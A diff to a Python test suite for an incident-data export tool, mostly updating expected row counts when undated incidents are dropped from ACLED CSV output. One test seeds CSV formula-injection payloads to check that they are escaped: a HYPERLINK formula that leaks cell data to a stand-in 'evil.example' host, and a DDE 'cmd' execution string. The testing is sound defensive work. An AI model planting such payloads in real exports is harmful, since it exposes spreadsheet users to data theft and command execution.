@@ -36,7 +36,9 @@ def test_acled_csv_to_stdout(db):
     assert result.exit_code == 0, result.output
     rows = list(csv.reader(io.StringIO(result.stdout)))
     assert rows[0] == ACLED_COLUMNS
-    assert len(rows) == 1 + TOTAL
+    assert len(rows) == 1 + TOTAL - 1  # the undated incident has no ACLED row ...
+    assert "XX-unplaced" not in result.stdout
+    assert "1 undated incident left out" in result.stderr  # ... and standard error says so
 
 
 def test_filters_and_file_output(db, tmp_path):
@@ -205,7 +207,7 @@ def test_iter_incidents_pages_in_the_order_of_incidents(ties_ledger, sort, page_
 
 
 def _old_acled_csv(incidents) -> str:
-    """ACLED CSV as it was written before exports streamed (csv.DictWriter over a list)."""
+    """ACLED CSV as it was written before exports streamed (csv.DictWriter over a list; dated incidents)."""
     from sitrep.exports import acled_rows
 
     buffer = io.StringIO()
@@ -236,7 +238,8 @@ def test_streamed_exports_are_byte_identical_to_the_whole_ones(sample_url, tmp_p
                 result = run("export", "--db", sample_url, "--format", fmt, "--sort", sort, "-o", str(out))
                 assert result.exit_code == 0, result.output
                 assert out.read_bytes() == text.encode("utf-8"), fmt
-                assert f"{TOTAL} incidents written" in result.output
+                written = {"acled-csv": TOTAL - 1, "geojson": LOCATED, "jsonl": TOTAL}[fmt]
+                assert f"{written} incidents written" in result.output
     assert sorted(p.name for p in tmp_path.iterdir()) == ["x.acled-csv", "x.geojson", "x.jsonl"]  # no leftovers
 
 
@@ -295,7 +298,7 @@ def test_min_killed_beyond_any_toll_is_a_usage_error(db):
 
 def test_csv_exports_escape_formulas(tmp_path):
     """A report's source (or any text) beginning with a formula trigger is written as text."""
-    from sitrep.records import Article, Evidence, Extraction, Incident, Place, Range
+    from sitrep.records import Actor, Article, Evidence, Extraction, Incident, Place, Range
     from sitrep.store.ledger import Ledger
 
     source = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -306,22 +309,24 @@ def test_csv_exports_escape_formulas(tmp_path):
         date=dt.date(2024, 2, 1), date_precision="day",
         location=Place(name="-Bobo", lat=11.18, lon=-4.3, country_code="BF", precision="town"),
         killed=Range(low=4, best=4, high=4), articles=[article.id],
+        perpetrators=[Actor(name="+cmd|' /C calc'!A0")],
         evidence=[Evidence(field="event", article_id=article.id, start=0, end=41, text=article.text)],
     )
     path = tmp_path / "formula.db"
     with Ledger(str(path)) as ledger:
         ledger.add(article, Extraction(incidents=[incident]))
-    for args, columns in (
-        (["export", "--format", "acled-csv"], ("source", "notes", "location", "longitude")),
-        (["incidents", "--format", "csv"], ("source", "notes", "location", "longitude")),
-    ):
+    for args in (["export", "--format", "acled-csv"], ["incidents", "--format", "csv"]):
         result = run(*args, "--db", str(path))
         assert result.exit_code == 0, result.output
         row = next(csv.DictReader(io.StringIO(result.stdout)))
         assert row["source"] == "'" + source
-        assert row["notes"] == "'" + article.text
+        assert row["actor1"] == "'+cmd|' /C calc'!A0"
         assert row["location"] == "'-Bobo"
         assert row["longitude"] == "-4.3"
+        if args[0] == "incidents":
+            assert row["notes"] == "'" + article.text  # the evidence sentence
+        else:  # ACLED notes are written for the incident, and name the place as stored
+            assert row["notes"].startswith("On 1 February 2024, an attack by +cmd") and "in -Bobo" in row["notes"]
 
 
 def test_cli_export_memory_does_not_grow_with_the_ledger(tmp_path, monkeypatch):
@@ -346,7 +351,8 @@ def test_cli_export_memory_does_not_grow_with_the_ledger(tmp_path, monkeypatch):
             _, peak = tracemalloc.get_traced_memory()
             tracemalloc.stop()
             assert result.exit_code == 0, result.output
-            assert f"{count} incidents written" in result.output
+            written = count - count // 4 if fmt == "acled-csv" else count  # one in four is undated
+            assert f"{written} incidents written" in result.output
             peaks[count, fmt] = peak
     for fmt in ("acled-csv", "geojson", "jsonl"):
         assert peaks[1000, fmt] < 1.5 * peaks[200, fmt], peaks
